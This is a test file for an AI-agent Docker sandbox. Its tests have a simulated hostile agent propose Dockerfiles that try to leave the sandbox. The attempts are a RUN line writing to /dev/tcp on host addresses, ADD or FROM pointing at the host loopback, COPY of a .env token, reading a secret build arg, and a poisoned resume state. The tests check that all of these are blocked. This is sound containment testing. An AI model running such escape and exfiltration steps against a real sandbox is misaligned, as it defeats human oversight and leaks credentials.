/**
 * A per-bottle build runs the agent's own text: the Dockerfile of a capability-block
 * proposal, or one a restored state brings. Each attack here is tried as a hostile
 * agent would: the fake claude calls the supervise server itself, or the state is
 * poisoned before a resume. A canary on the host listens on every host address
 * (the docker0 gateway, the host's own address, its loopback) and answers like a
 * web server: a build's RUN, ADD or FROM must never connect to it. The manifest
 * has a `.env` beside it and a secret in its `buildArgs`: neither may reach an
 * image built from the agent's Dockerfile, nor anything the agent can read.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { type Server, type Socket, createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  FAKE_AGENT_IMAGE,
  type RunnerRun,
  type Sandbox,
  fake,
  jsonResult,
  labelled,
  runRunner,
  sandbox,
  walk,
  writeManifest,
} from "../support/runner.js";

const ARG_SECRET = `npm_buildarg${randomBytes(8).toString("hex")}`;
const DOTENV_SECRET = `npm_dotenv${randomBytes(8).toString("hex")}`;
const REASON = "The task needs a tool this image does not have.";

interface CanaryEvent {
  from: string;
  data: string;
}

/** A TCP listener on every host address that answers anything with a small HTTP 200 and logs what it was sent. */
class HostCanary {
  readonly events: CanaryEvent[] = [];
  private readonly sockets = new Set<Socket>();
  private server: Server | null = null;
  port = 0;

  async start(): Promise<void> {
    const server = createServer((socket) => {
      this.sockets.add(socket);
      const event: CanaryEvent = { from: socket.remoteAddress ?? "", data: "" };
      this.events.push(event);
      socket.on("data", (chunk: Buffer) => {
        event.data += chunk.toString("latin1");
        if (socket.writable)
          socket.end(
            "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 7\r\nconnection: close\r\n\r\ncanary\n",
          );
      });
      socket.on("error", () => {});
      socket.once("close", () => this.sockets.delete(socket));
    });
    await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve));
    this.server = server;
    this.port = (server.address() as { port: number }).port;
  }

  since(mark: number): CanaryEvent[] {
    return this.events.slice(mark);
  }

  async close(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    await new Promise<void>((resolve) => (this.server ? this.server.close(() => resolve()) : resolve()));
  }
}

const canary = new HostCanary();
const boxes: Sandbox[] = [];
const identities = new Set<string>();

beforeAll(async () => {
  await canary.start();
});

afterAll(async () => {
  await canary.close();
  // The images this file's bottles built, whatever the runner left of them.
  for (const identity of identities) {
    const ids = execFileSync("docker", ["images", "-q", "--filter", `label=claude-bottle.identity=${identity}`], {
      encoding: "utf8",
    })
      .split("\n")
      .filter(Boolean);
    if (ids.length) spawnSync("docker", ["rmi", "-f", ...new Set(ids)]);
  }
  for (const box of boxes) rmSync(box.dir, { recursive: true, force: true });
});

function nonce(): string {
  return `nonce${randomBytes(6).toString("hex")}`;
}

/** The host's IPv4 addresses a build container could aim at: the docker0 gateway and the host's own, but not other bottles' bridges. */
function hostAddresses(): string[] {
  return Object.entries(networkInterfaces())
    .filter(([name]) => !name.startsWith("br-") && !name.startsWith("veth"))
    .flatMap(([, addresses]) =>
      (addresses ?? []).filter((a) => a.family === "IPv4" && !a.internal).map((a) => a.address),
    );
}

/** A supervised bottle on a manifest Dockerfile, with a `.env` and a secret build arg beside it. */
function bottle(policy: "preserve" | "rebuild"): { box: Sandbox; manifest: string } {
  const box = sandbox();
  boxes.push(box);
  writeFileSync(join(box.dir, "agent.Dockerfile"), `FROM ${FAKE_AGENT_IMAGE}\n`);
  writeFileSync(join(box.dir, ".env"), `NPM_TOKEN=${DOTENV_SECRET}\n`);
  const manifest = writeManifest(box.dir, {
    bottles: {
      builder: {
        dockerfile: "agent.Dockerfile",
        buildArgs: { NPM_TOKEN: ARG_SECRET },
        supervise: true,
        capabilityBlock: policy,
        egress: { allow: ["allowed.example"] },
        limits: { timeout: "3m" },
      },
    },
    agents: { builder: { bottle: "builder" } },
  });
  return { box, manifest };
}

/** A shell command that calls the supervise server's capability-block tool directly, as any program in the bottle can. */
function propose(dockerfile: string): string {
  const call = {
    jsonrpc: "2.0",
    id: 1,
    method: "tools/call",
    params: { name: "capability-block", arguments: { dockerfile, reason: REASON } },
  };
  const script =
    'fetch("http://supervise:8090/mcp",{method:"POST",headers:{"content-type":"application/json",accept:"application/json, text/event-stream"},body:Buffer.from(process.argv[1],"base64")}).then(r=>r.text()).then(t=>console.log(t),e=>console.log("failed",e))';
  return `node -e '${script}' ${Buffer.from(JSON.stringify(call)).toString("base64")}`;
}

/** The agent proposes, then works on for a while: an accepted proposal ends the session before it would. */
function proposing(dockerfile: string): string {
  return fake({ steps: [{ run: propose(dockerfile) }, { sleep: 6_000 }], end: "error-result" });
}

async function start(
  box: Sandbox,
  manifest: string,
  prompt: string,
): Promise<{ run: RunnerRun; result: Record<string, unknown> }> {
  const run = await runRunner(
    ["start", "builder", "--manifest", manifest, "--format", "json", "--prompt", prompt],
    box,
  );
  const result = jsonResult(run);
  identities.add(String(result.identity));
  return { run, result };
}

/** Every tool result the agent was given, in order, from a state's events.jsonl. */
function toolOutputs(stateDir: string): string[] {
  const path = join(stateDir, "events.jsonl");
  if (!existsSync(path)) return [];
  const outputs: string[] = [];
  for (const line of readFileSync(path, "utf8").split("\n").filter(Boolean)) {
    const event = JSON.parse(line) as { type?: string; message?: { content?: { type?: string; content?: unknown }[] } };
    for (const part of event.message?.content ?? [])
      if (part.type === "tool_result") outputs.push(String(part.content ?? ""));
  }
  return outputs;
}

/** Whether `secret` is anywhere in a state directory (the transcript, the events, the workspace). */
function stateHolds(stateDir: string, secret: string): boolean {
  if (!existsSync(stateDir)) return false;
  for (const file of walk(stateDir)) if (readFileSync(file, "latin1").includes(secret)) return true;
  return false;
}

/** What the engine says of an image: its config and its history, where build args show up. */
function imageRecord(ref: string): string {
  const inspect = spawnSync("docker", ["image", "inspect", ref], { encoding: "utf8" });
  const history = spawnSync("docker", ["history", "--no-trunc", ref], { encoding: "utf8" });
  return `${inspect.stdout}\n${history.stdout}`;
}

function imageExists(ref: string): boolean {
  return spawnSync("docker", ["image", "inspect", ref], { stdio: "ignore" }).status === 0;
}

describe("a proposal's build has no way out but the bottle's gate", () => {
  test("RUN in a rebuild reaches neither the docker0 gateway nor the host's own address; it goes out through the gate, and the image goes with the state", async () => {
    const marker = nonce();
    const mark = canary.events.length;
    const targets = hostAddresses();
    expect(targets.length).toBeGreaterThan(0);
    const probeGate =
      'const p=process.env.HTTP_PROXY;if(!p){console.log("no proxy");process.exit(0)}const u=new URL(p);require("http").get({host:u.hostname,port:u.port,path:"http://MARKER.build.example/",headers:{host:"MARKER.build.example"}},r=>console.log("proxy answered",r.statusCode)).on("error",e=>console.log("proxy error",e.code))';
    const dockerfile = [
      `FROM ${FAKE_AGENT_IMAGE}`,
      `RUN for to in ${targets.join(" ")}; do (timeout 4 bash -c "echo ${marker} > /dev/tcp/$to/${canary.port}" && echo "reached $to" || echo "blocked $to"); done`,
      `RUN node -e '${probeGate.replaceAll("MARKER", marker)}'`,
      "",
    ].join("\n");
    const { box, manifest } = bottle("rebuild");
    const { run, result } = await start(box, manifest, proposing(dockerfile));
    expect(result, run.stderr).toMatchObject({
      outcome: "success",
      capabilityBlocks: [expect.objectContaining({ policy: "rebuild", result: "rebuilt" })],
    });

    expect(canary.since(mark), "connections to the host canary during the build").toEqual([]);
    // The build's one way out was the gate, which refused a host outside the allowlist (the run's egress line says so).
    expect(run.stderr).toMatch(new RegExp(`egress: reached .*; refused .*${marker}\\.build\\.example:80`));
    // The bottle's state is gone after its success, and its image with it.
    expect(existsSync(String(result.stateDir))).toBe(false);
    expect(
      imageExists(`claude-bottle-bottle:${String(result.identity)}`),
      "the per-bottle image after the state was removed",
    ).toBe(false);
    expect(labelled(String(result.identity))).toEqual({ containers: [], networks: [] });
  });

  test("ADD of a URL on the host's loopback is refused when proposed, with what to do instead; nothing fetches it", async () => {
    const marker = nonce();
    const mark = canary.events.length;
    const { box, manifest } = bottle("rebuild");
    const { run, result } = await start(
      box,
      manifest,
      proposing(`FROM ${FAKE_AGENT_IMAGE}\nADD http://127.0.0.1:${canary.port}/${marker}/add /tmp/added\n`),
    );
    expect(canary.since(mark), "connections to the host canary").toEqual([]);
    expect(result, run.stderr).toMatchObject({ outcome: "error", capabilityBlocks: [] });
    const answer = toolOutputs(String(result.stateDir))[0] ?? "";
    expect(answer).toContain("Not accepted");
    expect(answer).toMatch(/line 2: ADD/);
    expect(answer).toMatch(/RUN curl/);
    expect(labelled(String(result.identity))).toEqual({ containers: [], networks: [] });
  });

  test("FROM an image on a registry at the host's loopback: nothing pulls it, and the build fails saying why", async () => {
    const marker = nonce();
    const mark = canary.events.length;
    const image = `127.0.0.1:${canary.port}/${marker}/tools:latest`;
    const { box, manifest } = bottle("rebuild");
    const { run, result } = await start(box, manifest, proposing(`FROM ${image}\nRUN true\n`));
    expect(canary.since(mark), "connections to the host canary").toEqual([]);
    expect(result, run.stderr).toMatchObject({ outcome: "build-failed", preserved: true });
    const log = readFileSync(join(String(result.stateDir), "build.log"), "utf8");
    expect(log).toContain(`${image} (line 1) is not on this Docker engine`);
    expect(log).toMatch(/pulls nothing/);
    expect(labelled(String(result.identity))).toEqual({ containers: [], networks: [] });
  });
});

describe("a restored state's Dockerfile is checked again before anything is built", () => {
  const cases = [
    {
      name: "ADD from the host's loopback",
      dockerfile: (marker: string) =>
        `FROM ${FAKE_AGENT_IMAGE}\nADD http://127.0.0.1:${canary.port}/${marker}/state /tmp/added\n`,
      problem: "line 2: ADD",
    },
    {
      name: "COPY of the .env beside the manifest",
      dockerfile: () => `FROM ${FAKE_AGENT_IMAGE}\nCOPY .env /tmp/added\n`,
      problem: "line 2: COPY",
    },
  ];
  test.each(cases)(
    "$name: resume refuses it, fetches nothing, and keeps the state",
    async ({ dockerfile, problem }) => {
      const marker = nonce();
      const mark = canary.events.length;
      const { box, manifest } = bottle("preserve");
      const { run, result } = await start(box, manifest, fake({ steps: [{ say: "working" }], end: "error-result" }));
      expect(result, run.stderr).toMatchObject({ outcome: "error", preserved: true });
      const stateDir = String(result.stateDir);
      // What a poisoned cache entry would bring back.
      writeFileSync(join(stateDir, "Dockerfile"), dockerfile(marker));

      const resumed = await runRunner(
        [
          "resume",
          String(result.identity),
          "--format",
          "json",
          "--prompt",
          fake({ steps: [{ run: "cat /tmp/added" }], end: "error-result" }),
        ],
        box,
      );
      expect(canary.since(mark), "connections to the host canary").toEqual([]);
      expect(stateHolds(stateDir, DOTENV_SECRET), "the .env in the state").toBe(false);
      expect(resumed.code).not.toBe(0);
      expect(resumed.stderr).toContain(join(stateDir, "Dockerfile"));
      expect(resumed.stderr).toContain(problem);
      expect(existsSync(join(stateDir, ".preserve"))).toBe(true);
      expect(labelled(String(result.identity))).toEqual({ containers: [], networks: [] });
    },
  );
});

describe("a proposal's build sees nothing of the manifest's directory or its build args", () => {
  test("a build arg named in the proposal stays empty: neither the agent nor the image's history has the token", async () => {
    const { box, manifest } = bottle("preserve");
    const dockerfile = `FROM ${FAKE_AGENT_IMAGE}\nARG NPM_TOKEN\nRUN echo "token=[$NPM_TOKEN]" > /tmp/build-arg\n`;
    const { run, result } = await start(box, manifest, proposing(dockerfile));
    expect(result, run.stderr).toMatchObject({ outcome: "capability-block", preserved: true });
    const identity = String(result.identity);

    const resumed = await runRunner(
      [
        "resume",
        identity,
        "--format",
        "json",
        "--prompt",
        fake({ steps: [{ run: "cat /tmp/build-arg" }], end: "error-result" }),
      ],
      box,
    );
    expect(jsonResult(resumed), resumed.stderr).toMatchObject({ outcome: "error", preserved: true });
    const stateDir = String(result.stateDir);
    expect(toolOutputs(stateDir).at(-1)).toContain("token=[");
    expect(stateHolds(stateDir, ARG_SECRET), "the build arg in what the agent could read").toBe(false);
    expect(imageRecord(`claude-bottle-bottle:${identity}`)).not.toContain(ARG_SECRET);
    expect(labelled(identity)).toEqual({ containers: [], networks: [] });
  });

  test("COPY of the .env beside the manifest is refused when proposed, saying the context is empty; the agent never reads it", async () => {
    const { box, manifest } = bottle("preserve");
    const { run, result } = await start(box, manifest, proposing(`FROM ${FAKE_AGENT_IMAGE}\nCOPY .env /tmp/dotenv\n`));
    const identity = String(result.identity);
    const stateDir = String(result.stateDir);
    // Whatever came of the proposal, the bottle goes on and the agent looks for the file.
    const resumed = await runRunner(
      [
        "resume",
        identity,
        "--format",
        "json",
        "--prompt",
        fake({ steps: [{ run: "cat /tmp/dotenv" }], end: "error-result" }),
      ],
      box,
    );
    expect(jsonResult(resumed), resumed.stderr).toMatchObject({ preserved: true });
    expect(stateHolds(stateDir, DOTENV_SECRET), "the .env in what the agent could read").toBe(false);
    expect(result, run.stderr).toMatchObject({ outcome: "error", capabilityBlocks: [] });
    const answer = toolOutputs(stateDir)[0] ?? "";
    expect(answer).toContain("Not accepted");
    expect(answer).toMatch(/line 2: COPY/);
    expect(answer).toMatch(/context is empty/);
    expect(labelled(identity)).toEqual({ containers: [], networks: [] });
  });
});
